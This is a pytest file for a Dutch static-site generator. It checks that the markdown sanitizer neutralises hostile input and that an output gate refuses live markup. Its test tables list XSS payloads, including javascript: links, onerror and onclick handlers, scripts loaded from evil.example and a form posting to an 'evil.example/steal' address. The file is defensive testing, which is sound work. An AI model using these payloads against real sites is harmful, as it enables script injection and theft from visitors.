"""Hostile input, round two: what is rendered is sanitized, and the whole output is gated.

- Every body attack of tests/corpus/invalid/autolink-*.yml (which the validator now reports)
  is also inert when it reaches the renderer unchecked: the sanitizer is the last word.
- Guidance data fields (tests/hostile/guidance/labels.yml) come out as the text they are.
- The output gate (`publish.gate`) refuses each kind of live markup, naming page and element, and
  lets through the theme's own scripts, JSON data blocks and ordinary links.
"""

from __future__ import annotations

import shutil
from pathlib import Path

import pytest
import yaml
from bs4 import BeautifulSoup
from conftest import REPO, TODAY
from hostile_site import HOSTILE, live_markup, unchecked_project

from kennisbank_gen.errors import BuildError, ConfigError
from kennisbank_gen.publish import build
from kennisbank_gen.publish.gate import check_output, page_problems
from kennisbank_gen.render.markdown_html import TAGS, page_markdown

ATTACKS = sorted((REPO / "tests" / "corpus" / "invalid").glob("autolink-*.yml"))
HOST = "kennisbank.example.org"


def body_of(file: Path) -> str:
    return yaml.safe_load(file.read_text(encoding="utf-8"))["body"]


def test_there_are_fifteen_autolink_attacks():
    assert len(ATTACKS) == 15


@pytest.mark.parametrize("file", ATTACKS, ids=lambda f: f.stem)
def test_sanitized_body_is_inert(file):
    html = page_markdown(body_of(file))
    assert live_markup(html) == []
    assert page_problems(html, HOST) == []
    soup = BeautifulSoup(html, "html.parser")
    for element in soup.find_all(True):  # the payloads are text at most, never attributes
        assert element.name in TAGS and set(element.attrs) <= {"href", "title", "class"}, element


@pytest.mark.parametrize(
    ("body", "kept", "gone"),
    [
        ("[a](javascript:alert(1))", "<a>a</a>", "javascript"),
        ("[a](data:text/html,x)", "<a>a</a>", "data:"),
        ("[a](other-page.md)", "<a>a</a>", "other-page"),
        ("[a](#kop)", '<a href="#kop">a</a>', ""),
        ("[a](https://example.org)", '<a href="https://example.org">a</a>', "rel="),
        ("<script>alert(1)</script>", "", "<script"),
        ("<style>p{}</style>", "", "<style"),
        ('tekst\n{: style="color:red" onclick="x()" }', "<p>tekst</p>", "onclick"),
        ("| a |\n|:-:|\n| b |", 'style="text-align:center"', ""),
        ("![p](https://tracker.example/p.png)", "", "<img"),
        ("!!! note\n    hoi", 'class="admonition note"', ""),
    ],
)
def test_sanitizer_allow_list(body, kept, gone):
    html = page_markdown(body)
    assert kept in html
    if gone:
        assert gone not in html


def test_top_level_headings_stay_markdown_and_nested_ones_lose_their_id():
    out = page_markdown("## Kop *met* <b>html</b>\n\ntekst\n\n> ### binnen\n")
    assert out.startswith("## Kop met html\n\n<p>tekst</p>")
    assert "<h3>binnen</h3>" in out and "id=" not in out


def test_deep_nesting_in_the_renderer_is_a_finding_not_a_traceback():
    from kennisbank_gen.errors import FindingsError
    from kennisbank_gen.render.markdown_html import field_markdown

    with pytest.raises(FindingsError) as exc:
        field_markdown("*" * 5000 + "x" + "*" * 5000, "initiatives/x.yml", "body")
    (finding,) = exc.value.findings
    assert finding.field == "body" and finding.rule == "markdown-nesting"
    assert finding.message.startswith("verwacht ")


# --- guidance data fields ------------------------------------------------------------------


@pytest.fixture(scope="module")
def labels_site(tmp_path_factory) -> Path:
    from conftest import copy_project

    root = copy_project(tmp_path_factory.mktemp("labels") / "project")
    shutil.copy2(HOSTILE / "guidance" / "labels.yml", root / "content" / "guidance")
    build(root, today=TODAY)  # validates, renders, gates: it must pass
    return root / "site"


def test_guidance_labels_are_text_everywhere(labels_site):
    pages = ["index.html", "aanbevelingen-en-tips/index.html", "tips/labels/index.html"]
    pages += ["tips/labels/01/index.html", "tips/labels/02/index.html"]
    data = yaml.safe_load((HOSTILE / "guidance" / "labels.yml").read_text(encoding="utf-8"))
    for rel in pages:
        html = (labels_site / rel).read_text(encoding="utf-8")
        assert live_markup(html) == [], rel
        assert page_problems(html, HOST) == [], rel
        text = " ".join(BeautifulSoup(html, "html.parser").get_text().split())
        assert "javascript:" not in "".join(
            a.get("href", "") for a in BeautifulSoup(html, "html.parser").find_all("a")
        )
        if rel != "tips/labels/02/index.html":
            assert data["item_label_plural"] in text or data["item_label"].capitalize() in text
    item = (labels_site / "tips/labels/01/index.html").read_text(encoding="utf-8")
    heading = BeautifulSoup(item, "html.parser").find("h1").get_text().rstrip("¶")
    assert heading == f"{data['item_label'].capitalize()} 1: {data['items'][0]['title']}"


# --- the output gate ------------------------------------------------------------------------

REFUSED = [
    ('<p onclick="x()">a</p>', "gebeurtenis-attribuut, gevonden onclick"),
    ('<div contenteditable autofocus onfocus="x()">', "onfocus"),
    ('<a href="javascript:alert(1)">a</a>', "veilig adres"),
    ('<a href=" java\tscript:alert(1)">a</a>', "veilig adres"),
    ('<a href="data:text/html,x">a</a>', "veilig adres"),
    ('<img src="https://tracker.example/p.png">', "andere host"),
    ('<img srcset="a.png 1x, https://tracker.example/p.png 2x">', "andere host"),
    ('<img src="//tracker.example/p.png">', "andere host"),
    ('<script src="https://evil.example/x.js"></script>', "andere host"),
    ("<script>alert(1)</script>", "inline script"),
    ('<script type="module">alert(1)</script>', "inline script"),
    ('<link rel="stylesheet" href="https://evil.example/x.css">', "andere host"),
    ('<link rel="icon" href="https://evil.example/x.ico">', "andere host"),
    ("<style>body{}</style>", "<style>"),
    ('<p style="background:url(https://tracker.example/p.png)">', "url()"),
    ('<iframe src="x.html"></iframe>', "geen <iframe>"),
    ('<object data="x.swf"></object>', "geen <object>"),
    ('<base href="https://evil.example/">', "geen <base>"),
    ('<meta http-equiv="refresh" content="0; url=javascript:alert(1)">', "doorverwijzing"),
    ('<form action="https://evil.example/steal"></form>', "andere host"),
    ('<svg><use href="data:image/svg+xml,x"></use></svg>', "veilig adres"),
]


@pytest.mark.parametrize(("html", "reason"), REFUSED, ids=[h for h, _ in REFUSED])
def test_gate_refuses(html, reason):
    problems = page_problems(f"<html><body>\n{html}\n</body></html>", HOST)
    assert problems, html
    assert any(reason in p for p in problems), problems
    assert problems[0].startswith("regel 2: <")


ALLOWED = [
    '<script type="application/ld+json">{"@context": "https://schema.org"}</script>',
    '<script id="__config" type="application/json">{"base": "."}</script>',
    '<script src="../assets/javascripts/bundle.js"></script>',
    '<a href="https://elders.example/">een link mag overal heen</a>',
    '<link rel="canonical" href="https://kennisbank.example.org/x/">',
    '<img src="https://kennisbank.example.org/logo.png">',
    '<th style="text-align: left;">a</th>',
    '<meta http-equiv="refresh" content="0; url=../nieuw/">',
    '<a href="mailto:redactie@example.org">mail</a>',
]


@pytest.mark.parametrize("html", ALLOWED)
def test_gate_allows(html):
    assert page_problems(f"<html><body>{html}</body></html>", HOST) == []


def test_the_bundled_site_passes_the_gate_and_material_scripts_are_listed(built_site):
    check_output(built_site, f"https://{HOST}/")  # raises when anything is refused
    page = (built_site / "index.html").read_text(encoding="utf-8")
    assert page.count("<script>") >= 3  # Material's inline scripts, allowed by hash


def test_gate_refuses_a_hand_written_page_and_the_site_stays(project):
    build(project, today=TODAY)
    before = (project / "site" / "over" / "index.html").read_bytes()
    (project / "content" / "over.md").write_text(
        "# Over\n\n<img src=x onerror=alert(1)>\n", encoding="utf-8"
    )
    with pytest.raises(BuildError) as exc:
        build(project, today=TODAY)
    message = str(exc.value)
    assert "over/index.html: regel" in message and "<img src=x onerror=alert(1)>" in message
    assert (project / "site" / "over" / "index.html").read_bytes() == before
    assert not [p for p in project.iterdir() if p.name.startswith(".site.staging")]


def test_gate_refuses_an_off_site_script_from_mkdocs_yml(project):
    config = project / "mkdocs.yml"
    text = config.read_text(encoding="utf-8")
    config.write_text(
        text.replace("extra_javascript:\n", "extra_javascript:\n  - https://evil.example/x.js\n"),
        encoding="utf-8",
    )
    with pytest.raises(BuildError) as exc:
        build(project, today=TODAY)
    assert '<script src="https://evil.example/x.js">' in str(exc.value)
    assert "andere host" in str(exc.value)


def test_duplicate_key_in_mkdocs_yml_is_a_config_error(project):
    config = project / "mkdocs.yml"
    text = config.read_text(encoding="utf-8")
    config.write_text(text + "extra_javascript:\n  - https://evil.example/x.js\n", "utf-8")
    with pytest.raises(ConfigError) as exc:
        build(project, today=TODAY)
    (finding,) = exc.value.findings
    assert finding.path == "mkdocs.yml" and "extra_javascript" in finding.message


def test_unchecked_hostile_site_passes_the_gate(tmp_path_factory):
    """Bodies the validator refuses, rendered anyway: the sanitizer leaves nothing to refuse."""
    site = unchecked_project(tmp_path_factory) / "site"
    check_output(site, f"https://{HOST}/")
    for file in ATTACKS:
        html = (site / "initiatieven" / file.stem / "index.html").read_text(encoding="utf-8")
        assert live_markup(html) == [], file.stem
